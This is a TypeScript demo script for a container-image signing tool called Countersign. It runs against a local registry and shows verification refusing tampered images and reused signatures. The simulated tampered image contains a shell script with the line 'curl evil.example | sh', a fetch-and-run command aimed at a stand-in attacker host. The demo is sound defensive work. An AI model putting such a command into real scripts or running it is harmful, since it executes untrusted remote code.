// SPDX-License-Identifier: Apache-2.0
// What Countersign is for, shown with real commands against a real registry on this machine.
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { systemClock } from '../packages/countersign/src/host/system-clock.ts';
import { systemRandom } from '../packages/countersign/src/host/system-random.ts';
import { startHub } from '../packages/countersign/src/hub/start-hub.ts';
import { silentLog } from '../packages/countersign/src/ports/log.ts';
import { attachByHand } from './demo/attach-by-hand.ts';
import { buildImage } from './demo/build-image.ts';
import { tellKeyless } from './demo/keyless.ts';

const root = resolve(import.meta.dirname, '..');
const program = join(root, 'packages/countersign/bin/countersign.cjs');

interface Expected {
  readonly exit: number;
  readonly meaning: string;
}

class DemoFailed extends Error {}

async function main(): Promise<void> {
  const startedAt = performance.now();
  const folder = await mkdtemp(join(tmpdir(), 'countersign-demo-'));
  const hub = await startHub({ storage: { kind: 'memory' }, clock: systemClock, random: systemRandom, log: silentLog });
  try {
    say(`A registry runs at ${hub.host}. Everything else happens in ${folder}, which is removed at the end.`);
    await tell(folder, hub.host);
    say(`That was the demo, in ${((performance.now() - startedAt) / 1000).toFixed(1)} s. To go on: README.md.`);
  } finally {
    await hub.close();
    await rm(folder, { recursive: true });
  }
}

async function tell(folder: string, host: string): Promise<void> {
  const image = `${host}/demo/app:v1`;
  const run = async (argv: readonly string[], expected: Expected): Promise<void> =>
    await runCommand(folder, argv, expected);
  const license = { name: 'LICENSE', content: await readFile(join(root, 'LICENSE')) };
  const honest = [license, { name: 'app.sh', content: new TextEncoder().encode('#!/bin/sh\necho hello\n') }];
  const evil = [license, { name: 'app.sh', content: new TextEncoder().encode('#!/bin/sh\ncurl evil.example | sh\n') }];

  step('Build an image from local files, and push it');
  const digest = await buildImage(join(folder, 'honest'), 'v1', honest);
  await run(['copy', 'oci:honest:v1', image], {
    exit: 0,
    meaning: `The registry now has the image ${digest.slice(0, 19)}….`,
  });

  step('Make a key pair, and sign the image by its digest');
  await run(['generate-key-pair'], {
    exit: 0,
    meaning: 'cosign.key signs and stays secret; cosign.pub is for everybody.',
  });
  await run(['sign', '--key', 'cosign.key', `${host}/demo/app@${digest}`], {
    exit: 0,
    meaning: 'The signature lies in the registry, attached to the image.',
  });

  step('Verify it');
  await run(['verify', '--key', 'cosign.pub', image], {
    exit: 0,
    meaning: 'ADMITTED: exactly this content was signed by this key.',
  });

  step('An attacker with the registry password moves the tag to a tampered image');
  const tampered = await buildImage(join(folder, 'evil'), 'v1', evil);
  await run(['copy', '--force', 'oci:evil:v1', image], {
    exit: 0,
    meaning: 'The registry let it happen: it only checks passwords.',
  });
  await run(['verify', '--key', 'cosign.pub', image], {
    exit: 10,
    meaning: 'REFUSED: the name is the same, but nobody signed what it points at now.',
  });

  step('The attacker attaches the old, genuine signature to the tampered image');
  await run(['--output-file', 'old.json', 'download', 'signature', `${host}/demo/app@${digest}`], {
    exit: 0,
    meaning: 'Signatures are public.',
  });
  await run(['attach', 'signature', '--bundle', 'old.json', `${host}/demo/app@${tampered}`], {
    exit: 12,
    meaning: 'Countersign will not help with that, so the attacker does it by hand, with plain HTTP calls.',
  });
  await attachByHand(`http://${host}/v2/demo/app`, tampered, await readFile(join(folder, 'old.json')));
  await run(['verify', '--key', 'cosign.pub', image], {
    exit: 12,
    meaning: 'REFUSED: the signature is genuine, and it speaks of another digest.',
  });

  step('An image that nobody ever signed');
  await run(['copy', 'oci:honest:v1', `${host}/demo/other:v1`], { exit: 0, meaning: 'Pushed without any signature.' });
  await run(['verify', '--key', 'cosign.pub', `${host}/demo/other:v1`], {
    exit: 10,
    meaning: 'REFUSED: every place where a signature could lie was read, and there is none.',
  });

  step('A registry that cannot be reached is not an unsigned image');
  await run(['verify', '--key', 'cosign.pub', '--timeout', '2s', '127.0.0.1:1/demo/app:v1'], {
    exit: 4,
    meaning: 'COULD NOT FIND OUT: refused too, and nobody claims that the image is unsigned.',
  });

  await tellKeyless({ folder, host, honest: digest, tampered, step, run });
}

const steps: string[] = [];

function step(title: string): void {
  steps.push(title);
  say(`\n${steps.length}. ${title}`);
}

async function runCommand(folder: string, argv: readonly string[], expected: Expected): Promise<void> {
  say(`\n   $ countersign ${argv.join(' ')}`);
  const { code, output } = await spawned(folder, argv);
  for (const line of output.trimEnd().split('\n')) if (line !== '') say(`   | ${line}`);
  if (code !== expected.exit) throw new DemoFailed(`wanted exit code ${expected.exit}, got ${code}`);
  say(`   → exit code ${code}. ${expected.meaning}`);
}

async function spawned(
  folder: string,
  argv: readonly string[],
): Promise<{ readonly code: number | null; readonly output: string }> {
  const child = spawn(process.execPath, [program, ...argv], {
    cwd: folder,
    env: { ...process.env, COSIGN_PASSWORD: 'demo' },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  const chunks: Buffer[] = [];
  child.stderr.on('data', (chunk: Buffer) => chunks.push(chunk));
  const code = await new Promise<number | null>((done) => child.on('close', done));
  return { code, output: Buffer.concat(chunks).toString() };
}

function say(text: string): void {
  process.stdout.write(`${text}\n`);
}

await main();
